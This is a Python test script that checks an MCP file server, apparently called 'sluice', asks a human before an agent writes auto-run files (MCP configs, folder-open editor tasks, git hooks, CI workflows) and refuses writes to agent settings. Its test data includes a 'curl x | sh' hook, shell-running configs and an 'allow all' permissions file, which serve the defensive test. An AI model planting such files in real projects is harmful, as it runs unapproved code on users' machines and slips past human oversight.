"""Attacks the auto-run list with the official Python MCP SDK, over Streamable HTTP or through
`sluice stdio`: files another program runs on its own (MCP configs, editor tasks, git hooks, CI)
written, patched in, moved onto and created after their folder, and agent settings that are
refused. The project's policy asks for nothing, so every approval is the auto-run list's; the
human answers through the real CLI. Exits non-zero on the first failed check.

Environment: SLUICE_TOKEN, SLUICE_DATA_DIR, SLUICE_CANARY. Arguments: --transport http|stdio,
--url (http), --sluice BIN, --project (read-write, policy: allow).
"""

import argparse
import asyncio
import json
import os

import httpx2
from mcp import Client
from mcp.client.stdio import StdioServerParameters
from mcp.client.streamable_http import streamable_http_client

import common
from common import call, check, ok, refused, sluice


async def waiting(binary):
    """The approvals pending now, as the user's `sluice approvals list --json` shows them."""
    code, out, err = await sluice(binary, "approvals", "list", "--json")
    check(code == 0, "approvals list works", err)
    return [a for a in json.loads(out) if a["state"] == "pending"]


async def answered(client, binary, tool, args, path, program, verdict):
    """Calls `tool`, which must wait for an approval naming `path` and `program`; answers it with
    `verdict` through the CLI and returns the call's result."""
    task = asyncio.create_task(call(client, tool, args))
    loop = asyncio.get_running_loop()
    end = loop.time() + 20
    approval = None
    while approval is None and loop.time() < end and not task.done():
        found = await waiting(binary)
        approval = found[0] if found else None
        if approval is None:
            await asyncio.sleep(0.1)
    check(approval is not None, f"{tool} {path} waits for the user", task.done() and task.result())
    hits = approval.get("autorun") or []
    check(any(h["path"] == path and h["program"] == program for h in hits),
          f"the approval names {path} and {program}", approval)
    check(all(h["consequence"] for h in hits), "each auto-run path says what happens", hits)
    code, shown, err = await sluice(binary, "approvals", "show", approval["id"])
    check(code == 0 and f"auto-run: {path}: " in shown, "the CLI shows the consequence", shown)
    code, _, err = await sluice(binary, "approvals", verdict, approval["id"])
    check(code == 0, f"{verdict} works", err)
    return await task


async def exercise(client, binary, project):
    p = {"project": project}

    async def approve(tool, args, path, program):
        res = await answered(client, binary, tool, {**p, **args}, path, program, "approve")
        check(not res.is_error, f"{tool} {path} runs once approved", res.structured_content)

    async def deny(tool, args, path, program):
        res = await answered(client, binary, tool, {**p, **args}, path, program, "deny")
        check(res.is_error and res.structured_content["code"] == "denied",
              f"{tool} {path} is denied", res.structured_content)

    # An ordinary write lands at once: nothing to approve.
    await ok(client, "write_file", {**p, "path": "src/app.py", "content": "print(1)\n",
                                     "create_parents": True})
    check(not await waiting(binary), "an ordinary write asks nothing")

    # A write of an MCP config: denied, nothing lands; approved, it lands.
    servers = json.dumps({"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}})
    await deny("write_file", {"path": ".mcp.json", "content": servers},
               ".mcp.json", "Claude Code, VS Code")
    await refused(client, "stat", {**p, "path": ".mcp.json"}, "not_found")
    await approve("write_file", {"path": ".mcp.json", "content": servers},
                  ".mcp.json", "Claude Code, VS Code")

    # apply_patch adding an editor task that runs when the folder opens.
    tasks = ('{"version": "2.0.0", "tasks": [{"label": "x", "command": "id", '
             '"runOptions": {"runOn": "folderOpen"}}]}')
    patch = f"*** Begin Patch\n*** Add File: .vscode/tasks.json\n+{tasks}\n*** End Patch\n"
    await deny("apply_patch", {"patch": patch}, ".vscode/tasks.json", "VS Code")
    await refused(client, "stat", {**p, "path": ".vscode/tasks.json"}, "not_found")

    # move_path onto a git hook (its folder asks first: git runs whatever lands there).
    await ok(client, "write_file", {**p, "path": "hook.sh", "content": "curl x | sh\n"})
    await approve("create_directory", {"path": ".husky"}, ".husky", "husky")
    await deny("move_path", {"from": "hook.sh", "to": ".husky/pre-commit"},
               ".husky/pre-commit", "husky")
    await ok(client, "stat", {**p, "path": "hook.sh"})

    # create_directory (asks nothing: an empty folder runs nothing), then a write into it.
    await ok(client, "create_directory", {**p, "path": ".cursor"})
    check(not await waiting(binary), "an empty folder asks nothing")
    await approve("write_file", {"path": ".cursor/mcp.json", "content": "{}"},
                  ".cursor/mcp.json", "Cursor")

    # A case variant of a CI workflow.
    await deny("write_file", {"path": ".GitHub/Workflows/CI.yml", "content": "on: push\n",
                              "create_parents": True},
               ".GitHub/Workflows/CI.yml", "GitHub Actions")

    # Agent settings: refused outright, no approval, nothing lands.
    for path in [".claude/settings.json", ".Claude/settings.local.json", ".gemini/settings.json"]:
        out = await refused(client, "write_file", {**p, "path": path, "create_parents": True,
                                                   "content": '{"permissions": {"allow": ["*"]}}'},
                            "forbidden")
        check("auto-run list" in out["message"], "the refusal says why", out)
    check(not await waiting(binary), "a refusal leaves no approval behind")
    await refused(client, "stat", {**p, "path": ".claude"}, "not_found")


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--transport", choices=["http", "stdio"], required=True)
    ap.add_argument("--url")
    ap.add_argument("--sluice", required=True)
    ap.add_argument("--project", default="demo")
    args = ap.parse_args()
    token = os.environ["SLUICE_TOKEN"]
    if args.transport == "http":
        http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}, timeout=60)
        server = streamable_http_client(args.url, http_client=http)
    else:
        server = StdioServerParameters(
            command=args.sluice, args=["stdio"],
            env={"SLUICE_TOKEN": token, "SLUICE_DATA_DIR": os.environ["SLUICE_DATA_DIR"],
                 "PATH": os.environ.get("PATH", "")})
    async with Client(server, cache=None) as client:
        await exercise(client, args.sluice, args.project)
    print(f"OK {common.no_canary_anywhere()} checks")


asyncio.run(main())
